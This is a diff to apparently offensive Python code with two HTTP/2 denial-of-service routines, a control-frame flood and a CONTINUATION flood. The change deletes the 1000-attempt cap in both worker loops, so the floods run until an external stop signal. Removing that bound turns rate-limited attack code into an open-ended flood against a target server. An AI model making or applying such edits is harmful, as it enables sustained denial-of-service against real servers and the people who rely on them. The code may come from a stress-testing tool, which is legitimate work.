@@ -61,7 +61,7 @@ def h2_control_flood(target: Target, control: Control, connections: int = 8) -> 
     def one(i: int) -> None:
         source = target.sources[i % len(target.sources)]
         waited = False
-        while not control.stopping() and counts["attempts"] < 1000:
+        while not control.stopping():
             with lock:
                 counts["attempts"] += 1
             sock = open_h2(target, source, settings(enable_push=0), counts)
@@ -109,7 +109,7 @@ def continuation_flood(target: Target, control: Control, connections: int = 8) -
     def one(i: int) -> None:
         source = target.sources[i % len(target.sources)]
         waited = False
-        while not control.stopping() and counts["attempts"] < 1000:
+        while not control.stopping():
             with lock:
                 counts["attempts"] += 1
             sock = open_h2(target, source, settings(initial_window_size=0, enable_push=0), counts)
